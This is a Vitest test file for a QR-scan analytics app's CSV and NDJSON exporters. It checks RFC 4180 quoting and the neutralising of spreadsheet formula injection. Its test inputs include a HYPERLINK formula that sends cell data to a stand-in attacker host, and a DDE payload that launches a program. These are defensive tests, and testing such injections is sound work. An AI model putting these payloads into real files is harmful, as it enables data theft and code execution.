import { describe, expect, it } from "vitest";
import type { ExportRow } from "@qr3/db";
import { FORMATS } from "./formats.ts";

const row: ExportRow = {
  id: "scn_1",
  code_id: "qr_1",
  country: "AT",
  region: null,
  city: "Vienna",
  device_type: "mobile",
  os: "iOS",
  browser: "Safari",
  referer: 'https://example.com/a,b?q="x"\r\nnext',
  language: "de",
  redirected_to: "https://example.com",
  ip_hash: "ab",
  scanned_at: "2026-05-12T14:32:11.000Z",
  is_bot: 0,
};

describe("export formats", () => {
  it("writes RFC 4180 CSV: a header, CRLF records, quoting where needed, empty nulls", () => {
    expect(FORMATS.csv.header).toBe(
      "id,code_id,country,region,city,device_type,os,browser,referer,language,redirected_to,ip_hash,scanned_at,is_bot\r\n",
    );
    expect(FORMATS.csv.row(row)).toBe(
      'scn_1,qr_1,AT,,Vienna,mobile,iOS,Safari,"https://example.com/a,b?q=""x""\r\nnext",de,https://example.com,ab,2026-05-12T14:32:11.000Z,0\r\n',
    );
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`],
    ["+1+2", `"'+1+2"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1:A9)", `"'@SUM(A1:A9)"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["https://example.com/a=b+c-d@e", "https://example.com/a=b+c-d@e"],
    [" =1+1", " =1+1"],
  ])("neutralises a cell that a spreadsheet would run as a formula: %j", (referer, cell) => {
    expect(FORMATS.csv.row({ ...row, referer })).toBe(
      `scn_1,qr_1,AT,,Vienna,mobile,iOS,Safari,${cell},de,https://example.com,ab,2026-05-12T14:32:11.000Z,0\r\n`,
    );
  });

  it("neutralises every text column, and leaves numbers alone", () => {
    const line = FORMATS.csv.row({ ...row, city: "=cmd|' /C calc'!A0", region: "-x", is_bot: 0 });
    expect(line).toContain(`,"'-x","'=cmd|' /C calc'!A0",`);
    expect(line.endsWith(",0\r\n")).toBe(true);
  });

  it("writes one JSON object per line, nulls kept, no workspace", () => {
    const line = FORMATS.ndjson.row(row);
    expect(line.endsWith("\n")).toBe(true);
    expect(line.slice(0, -1)).not.toContain("\n");
    expect(JSON.parse(line)).toEqual(row);
    const raw = FORMATS.ndjson.row({ ...row, referer: "=HYPERLINK(1)" });
    expect(JSON.parse(raw).referer).toBe("=HYPERLINK(1)");
    expect(line).not.toContain("workspace_id");
  });
});
